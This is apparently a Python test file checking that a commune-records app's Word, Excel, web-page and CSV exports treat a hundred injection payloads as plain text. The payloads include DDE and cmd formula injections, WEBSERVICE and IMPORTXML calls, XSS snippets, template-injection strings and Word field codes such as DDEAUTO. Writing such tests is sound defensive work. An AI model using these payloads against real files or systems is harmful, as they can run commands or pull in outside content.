"""A hundred texts that are formulas, links, fields, markup or tags somewhere stay texts everywhere."""

import csv
import datetime as dt
import io
import itertools
import re
import zipfile

from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook

from records.communes import add_hamlet
from records.database import Database
from records.models import Commune
from staff.report_docx import report_docx
from staff.report_making import contents, xlsx_of
from tests.staff.test_report_docx import WORDS, figures, phrases
from tests.staff.world import build_world, submit, table

_STARTS = ("=", "+", "-", "@", "'=", '"=', " =", "＝", "|", "%")
_CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://vi.du/?x="&A1,"bấm")',
    'IMPORTXML("https://vi.du","//a")',
    "SUM(A1:A9)",
    'WEBSERVICE("https://vi.du")',
    'DDE("cmd";"/C calc";"x")',
    "2^10",
)
PAYLOADS = [start + call for start, call in itertools.product(_STARTS, _CALLS)] + [
    "<script>alert(1)</script>",
    "</w:t></w:r><w:r><w:t>x",
    "<w:hyperlink r:id='rId1'>x</w:hyperlink>",
    "&amp;&lt;&#x41;",
    "]]><x/>",
    "{{ 7*7 }}",
    "{% for i in range(9) %}x{% endfor %}",
    "{{ ''.__class__ }}",
    "{_{ x }_}",
    "{_% x %_}",
    "{#p x #}",
    "{%tr endfor %}",
    "https://vi.du/a?b=c&d=e",
    "mailto:a@vi.du",
    "INCLUDETEXT \"https://vi.du\"",
    "DDEAUTO c:\\\\windows\\\\cmd.exe",
    "\" onmouseover=\"alert(1)",
    "'><img src=x onerror=alert(1)>",
    "A, \"B\"; C",
    "số ½ ＜b＞ ‮đảo‬",
]  # fmt: skip


def test_there_are_a_hundred_of_them():
    assert len(set(PAYLOADS)) == 100


def test_in_a_word_file_they_are_text_and_nothing_else():
    words = {"difficulties": "\n".join(PAYLOADS), "recipients": "\n".join(PAYLOADS)}
    said = contents(figures(*PAYLOADS), WORDS.__class__(**{**words, "signer": PAYLOADS[0]}), phrases())

    file = report_docx(said.context, phrases())

    document = Document(io.BytesIO(file))
    hamlets = next(each for each in document.tables if each.rows[0].cells[1].text == "Thôn, xóm")
    assert [row.cells[1].text for row in hamlets.rows[1:-1]] == PAYLOADS
    written = [paragraph.text for paragraph in document.paragraphs]
    at = written.index(PAYLOADS[0])
    assert written[at : at + 100] == PAYLOADS
    left = (
        next(each for each in document.tables if "Nơi nhận:" in each.rows[0].cells[0].text).rows[0].cells[0]
    )
    assert [line.text for line in left.paragraphs[1:]] == said.context["noi_nhan"]
    assert len(left.paragraphs) == 101
    body = document.element.body
    fields = [*body.iter(qn("w:instrText")), *body.iter(qn("w:fldSimple")), *body.iter(qn("w:hyperlink"))]
    assert fields == []
    outside = [rel for rel in document.part.rels.values() if rel.is_external]
    assert outside == []


def test_in_a_workbook_they_are_text_and_nothing_else():
    said = contents(figures(*PAYLOADS), WORDS, phrases())

    file = xlsx_of(said, phrases(), unmasked=True)

    with zipfile.ZipFile(io.BytesIO(file)) as book:
        sheets = "".join(book.read(name).decode() for name in book.namelist() if "worksheets/" in name)
    assert re.findall(r"<f[ >]|<hyperlink", sheets) == []
    names = [cell.value for cell in load_workbook(io.BytesIO(file))["Theo xóm"]["A"]]
    at = names.index(PAYLOADS[0])
    assert names[at : at + 100] == PAYLOADS


def test_on_pages_and_in_csv_files_they_are_text_and_nothing_else(
    sqlite_database: Database, now: dt.datetime
):
    world = build_world(sqlite_database, now)
    with world.database.write() as session:
        commune = session.get_one(Commune, world.home.id)
        for place, name in enumerate(PAYLOADS, 10):
            add_hamlet(session, commune, slug=f"p{place}", name=name, position=place)
    browser = world.signed_in()

    address = submit(browser, "/staff/bao-cao", action="/staff/bao-cao?ky=2026-Q4").headers["location"]
    page = browser.get(address).text
    overview = browser.get("/staff").text
    file = browser.get("/staff/tong-quan.csv?ban=noi-bo").text
    world.close()

    shown = [" ".join(name.split()) for name in PAYLOADS]
    assert [row[0] for row in table(page, "bang-hamlets")][3:-1] == shown
    assert [row[0] for row in table(overview, "theo-thon")][3:-1] == shown
    assert "<script>alert" not in page + overview
    assert "<img src=x" not in page + overview
    names = list(dict.fromkeys(row[0] for row in csv.reader(io.StringIO(file.lstrip("\ufeff"), newline=""))))
    assert {name for name in names if name.startswith(("=", "+", "-", "@"))} == set()
    assert {name.removeprefix("'") for name in names} >= {name.removeprefix("'") for name in PAYLOADS}
